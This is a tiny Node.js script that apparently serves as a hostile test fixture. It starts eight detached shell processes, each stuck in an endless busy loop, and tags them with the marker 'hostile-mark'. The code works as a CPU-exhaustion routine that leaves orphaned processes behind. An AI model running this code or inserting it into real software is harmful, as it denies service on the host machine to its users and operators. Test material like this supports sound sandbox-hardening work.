import { spawn } from 'node:child_process';

for (let count = 0; count < 8; count += 1) {
  spawn('sh', ['-c', 'while :; do :; done', 'hostile-mark'], { stdio: 'ignore' }).unref();
}
